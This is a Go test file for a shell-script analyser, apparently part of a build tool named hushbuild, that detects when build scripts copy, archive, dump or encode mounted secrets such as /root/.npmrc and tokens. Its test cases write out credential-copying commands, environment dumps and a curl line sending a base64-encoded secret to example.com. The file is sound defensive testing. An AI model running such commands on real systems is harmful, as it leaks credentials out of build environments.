package rewrite

import (
	"reflect"
	"strings"
	"testing"
)

// TestOpaqueWrites: what a script that sees secrets does that the engine
// cannot follow is found from the syntax tree alone.
func TestOpaqueWrites(t *testing.T) {
	const npmrc = "/root/.npmrc"
	for _, tt := range []struct {
		name, script string
		want         string // part of the one problem expected, "" for none
	}{
		{name: "git remote with the token", script: `git remote add origin "https://x:${TOKEN}@example.com/r.git"`, want: "git remote add keeps the credentials"},
		{name: "git remote without it", script: `git remote add origin https://example.com/r.git`},
		{name: "mounted file copied by redirect", script: `cat /root/.npmrc > /app/npmrc`, want: "cat copies the secret mounted at /root/.npmrc"},
		{name: "mounted file to the log", script: `cat /root/.npmrc`},
		{name: "mounted file archived", script: `tar -czf /app/x.tgz /root/.npmrc`, want: "tar copies the secret mounted at /root/.npmrc"},
		{name: "parent of the mount copied", script: `cp -r /root /backup`, want: "cp copies /root, which holds a secret mount"},
		{name: "parent copied, not recursively", script: `cp /root/x /backup`},
		{name: "parent archived by tar, which recurses", script: `tar czf /app/x.tgz /root`, want: "tar copies /root, which holds a secret mount"},
		{name: "parent archived by tar -c -f", script: `tar -z -c -f /app/x.tgz /root`, want: "tar copies /root, which holds a secret mount"},
		{name: "tar extracting into the parent", script: `tar -xzf /app/x.tgz -C /root`},
		{name: "tar --no-recursion", script: `tar --create --no-recursion -f /app/x.tar /root`},
		{name: "keytool -importkeystore of the mount", script: `keytool -importkeystore -srckeystore /root/.npmrc -srcstorepass "$P" -destkeystore /app/ks.jks -deststorepass changeit -noprompt`, want: "keytool copies the secret mounted at /root/.npmrc"},
		{name: "keytool -list of the mount", script: `keytool -list -keystore /root/.npmrc -storepass changeit`},
		{name: "7z a of the parent", script: `7z a /app/x.7z /root`, want: "7z copies /root, which holds a secret mount"},
		{name: "pattern copying the mount", script: `cp /root/.np* /app/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/.np* matches"},
		{name: "pattern into a file", script: `cat /root/.*rc > /app/all`, want: "cat copies the secret mounted at /root/.npmrc"},
		{name: "pattern matching the parent", script: `cp -r /r* /backup`, want: "cp copies /root, which /r* matches and which holds a secret mount"},
		{name: "pattern not matching", script: `cp /root/*.json /app/ && ls /root/.*`},
		{name: "nested shell unreadable", script: `sh -c 'echo "$TOKEN" > /x; if'`, want: "runs a script that hushbuild cannot parse"},
		{name: "base64 capture written", script: `T=$(base64 /root/.npmrc); echo "$T" > /app/t`, want: "into the variable T, and a command writes it into a file"},
		{name: "base64 capture used", script: `T=$(base64 /root/.npmrc); curl -H "X: $T" https://example.com`},
		{name: "negated class matching the mount", script: `cp -r /root/.[!.]* /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/.[!.]* matches"},
		{name: "tar --directory of the parent", script: `tar --directory=/root -czf /srv/x.tgz .`, want: "tar copies /root, which holds a secret mount"},
		{name: "brace expansion naming the mount", script: `cp /root/{.npmrc,.bashrc} /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/{.npmrc,.bashrc} matches"},
		{name: "brace expansion elsewhere", script: `cp /opt/{a,b}.json /srv/ && mkdir -p /srv/{x,y} && cp -r /root/{.npm,.cache} /srv/`},
		{name: "brace range", script: `cat /root/.np{1..9}* > /srv/x`, want: "cat copies the secret mounted at /root/.npmrc"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f, err := parseShell(tt.script)
			if err != nil {
				t.Fatal(err)
			}
			names := map[string]bool{"TOKEN": true}
			got := opaqueWrites(f, tt.script, shellEnv{workdir: "/app", home: "/root"}, names, []string{npmrc})
			switch {
			case tt.want == "" && len(got) > 0:
				t.Errorf("opaqueWrites = %q, want none", got)
			case tt.want != "" && (len(got) != 1 || !strings.Contains(got[0], tt.want)):
				t.Errorf("opaqueWrites = %q, want one containing %q", got, tt.want)
			}
		})
	}
}

func TestDumpedVars(t *testing.T) {
	names := map[string]bool{"A_TOKEN": true, "B_KEY": true}
	for script, want := range map[string][]string{
		"env":                 {"A_TOKEN", "B_KEY"},
		"printenv":            {"A_TOKEN", "B_KEY"},
		"printenv B_KEY HOME": {"B_KEY"},
		"/usr/bin/env":        {"A_TOKEN", "B_KEY"},
		"set":                 {"A_TOKEN", "B_KEY"},
		"echo A_TOKEN":        nil,
		"printenv HOME":       nil,
	} {
		f, err := parseShell(script)
		if err != nil {
			t.Fatal(err)
		}
		if got := dumpedVars(f.Stmts[0].Cmd, names); !reflect.DeepEqual(got, want) {
			t.Errorf("dumpedVars(%q) = %q, want %q", script, got, want)
		}
	}
}

func TestTaintAssignments(t *testing.T) {
	f, err := parseShell(`T="$NPM_TOKEN"; U=$T; V=plain; W="x${U}y"`)
	if err != nil {
		t.Fatal(err)
	}
	got := taint(f, map[string]bool{"NPM_TOKEN": true})
	for _, n := range []string{"NPM_TOKEN", "T", "U", "W"} {
		if !got[n] {
			t.Errorf("taint: %s not tainted", n)
		}
	}
	if got["V"] {
		t.Errorf("taint: V, assigned a literal, is tainted")
	}
}

func TestUsesExecOrTrap(t *testing.T) {
	for script, want := range map[string]bool{
		"trap 'rm -f x' EXIT; make": true,
		"npm ci && exec node app":   true,
		"exec 3>&1; make":           false, // exec without a command only redirects
		"make && echo exec trap":    false,
		// exec and trap run by command, builtin or eval.
		"command exec node app":          true,
		"command -p exec node app":       true,
		"builtin trap - EXIT":            true,
		"\\exec node app":                true,
		"'trap' '' EXIT":                 true,
		`eval "exec npm ci"`:             true,
		"eval 'trap - EXIT' && npm ci":   true,
		`eval "exec $CMD"`:               true,
		`eval "$(ssh-agent -s)" && make`: false,
		"eval echo exec":                 false,
		"command -v node && npm ci":      false,
	} {
		f, err := parseShell(script)
		if err != nil {
			t.Fatal(err)
		}
		if got := usesExecOrTrap(f); got != want {
			t.Errorf("usesExecOrTrap(%q) = %v, want %v", script, got, want)
		}
	}
}
